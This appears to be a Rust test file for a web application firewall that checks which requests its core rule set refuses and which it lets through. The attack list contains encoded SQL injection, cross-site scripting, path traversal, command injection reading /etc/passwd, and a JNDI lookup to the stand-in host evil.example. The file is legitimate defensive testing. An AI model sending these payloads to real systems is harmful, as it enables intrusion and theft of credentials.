//! What the rules refuse, and what they let pass.

use palisade::firewall::Firewall;
use palisade_waf::CoreRuleSet;

use crate::fixture::{INJECTION, SCRIPT, client, fetch, send};
use crate::support;

#[tokio::test]
async fn attacks_are_refused_and_work_goes_on() {
    let client = client(|firewall| firewall);
    for attack in [
        "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/search?q=../../../../etc/passwd",
        "/search?q=%24%7Bjndi%3Aldap%3A//evil.example/a%7D",
        "/search?q=;cat%20/etc/passwd",
    ] {
        let reply = fetch(&client, attack).await;
        assert_eq!(reply.status(), 403, "{attack}");
        assert!(!reply.text().contains("94"), "{}", reply.text());
    }
    for attack in [INJECTION, SCRIPT] {
        assert_eq!(send(&client, "/notes", attack).await.status(), 403, "{attack}");
    }
    for clean in
        ["/search", "/search?q=blue%20widgets", "/search?q=O%27Brien", "/search?q=50%25%20off"]
    {
        assert_eq!(fetch(&client, clean).await.status(), 200, "{clean}");
    }
    for clean in ["Meet at nine.", "Größe & Maß: 3 < 4"] {
        assert_eq!(send(&client, "/notes", clean).await.text(), clean);
    }
    // The engine in pure Rust takes it for SQL; libinjection does not.
    let sentence = "Bring the select few; order by noon.";
    let expected = if support::is_pure() { 403 } else { 200 };
    assert_eq!(send(&client, "/notes", sentence).await.status(), expected);
}

#[tokio::test]
async fn an_answer_that_tells_of_the_database_stays_inside() {
    let client = client(|firewall| firewall);
    assert_eq!(fetch(&client, "/leaks").await.status(), 403);
}

#[tokio::test]
async fn detection_alone_refuses_nothing() {
    let client = client(Firewall::detection_only);
    assert_eq!(send(&client, "/notes", INJECTION).await.text(), INJECTION);
}

#[test]
fn what_is_no_release_does_not_load() {
    let says = |rules: CoreRuleSet| rules.load().unwrap_err().to_string();
    assert!(says(CoreRuleSet::folder("/nowhere")).contains("cannot be read"));
    assert!(says(CoreRuleSet::folder(env!("CARGO_MANIFEST_DIR"))).contains("release of version 4"));
    assert!(says(support::rules().paranoia(0)).contains("1 to 4"));
    assert!(says(support::rules().paranoia(5)).contains("1 to 4"));
    assert!(says(support::rules().thresholds(0, 4)).contains("refuses everything"));
    assert!(!says(support::rules().before("SecRule ARGS")).is_empty());
}
